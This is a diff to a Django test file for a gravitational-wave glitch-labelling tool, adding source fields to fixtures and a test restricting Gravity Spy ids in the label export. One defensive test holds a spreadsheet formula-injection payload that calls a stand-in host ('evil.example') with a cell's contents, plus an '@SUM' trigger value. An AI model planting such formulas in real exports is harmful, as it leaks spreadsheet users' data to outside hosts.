@@ -33,6 +33,7 @@ def glitches():
     """A retired pool glitch with votes and a prediction, an open one, a gold one."""
     retired = SubjectFactory(
         external_id="H1_retired01",
+        source="gravityspy-real",  # GLITCHLAB_GRAVITYSPY_SOURCES: ids are Gravity Spy's
         ifo="H1",
         gps_time=1126259462.4,
         status=Subject.Status.RETIRED,
@@ -57,9 +58,12 @@ def glitches():
     prediction = active_prediction(retired, {"Whistle": 0.8, "Blip": 0.2})
     prediction.confidence = 0.8
     prediction.save()
-    open_one = SubjectFactory(external_id="L1_open00001", ifo="L1", images=())
+    open_one = SubjectFactory(
+        external_id="L1_open00001", source="gravityspy-real", ifo="L1", images=()
+    )
     gold = SubjectFactory(
         external_id="H1_gold00001",
+        source="gravityspy-real",
         role=Subject.Role.GOLD,
         gold_label=glitch_class("Blip"),
         images=(),
@@ -311,12 +315,31 @@ def test_a_simulated_glitch_is_marked_and_has_no_gravity_spy_id(client, glitches
     assert {r["simulated"] for r in rows if r["subject_id"] != retired.pk} == {False}
 
 
-def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(client, glitches):
+def test_only_gravity_spy_glitches_have_a_gravity_spy_id(client, glitches, settings):
+    """ml scan names a trigger without an id by a 10-character hash, as Gravity Spy's ids
+    look: exported as gravityspy_id, a scan of one's own strain read as a Gravity Spy glitch
+    and joined the wrong row of its tables."""
+    retired, _, _ = glitches
+    scanned = SubjectFactory(external_id="H1_Ab3dE5gH7j", source="o3-scan", images=())
+    client.force_login(user_in(REVIEWER, "rita"))
+
+    rows = {r["subject_id"]: r for r in json.loads(body(client.get(reverse("api-labels-json"))))}
+
+    assert rows[scanned.pk]["gravityspy_id"] == ""
+    assert rows[scanned.pk]["external_id"] == "H1_Ab3dE5gH7j"  # joins its scan's manifest
+    assert rows[retired.pk]["gravityspy_id"] == "retired01"
+    settings.GLITCHLAB_GRAVITYSPY_SOURCES = ["gravityspy-real", "o3-scan"]  # the operator's say
+    rows = {r["subject_id"]: r for r in json.loads(body(client.get(reverse("api-labels-json"))))}
+    assert rows[scanned.pk]["gravityspy_id"] == "Ab3dE5gH7j"
+
+
+def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(client, glitches, settings):
     """An imported file's name is a glitch's id: '=HYPERLINK(...)_1.0.png' came out of the
     CSV as a live formula in the scientist's spreadsheet. JSON keeps the id exact."""
     retired, _, _ = glitches
     evil = '=HYPERLINK("http://evil.example/?"&B2,"open")'
     Subject.objects.filter(pk=retired.pk).update(external_id=evil, source="@SUM(A1)")
+    settings.GLITCHLAB_GRAVITYSPY_SOURCES = ["@SUM(A1)"]
     client.force_login(user_in(REVIEWER, "rita"))
 
     rows = list(csv.DictReader(io.StringIO(body(client.get(reverse("api-labels-csv"))))))
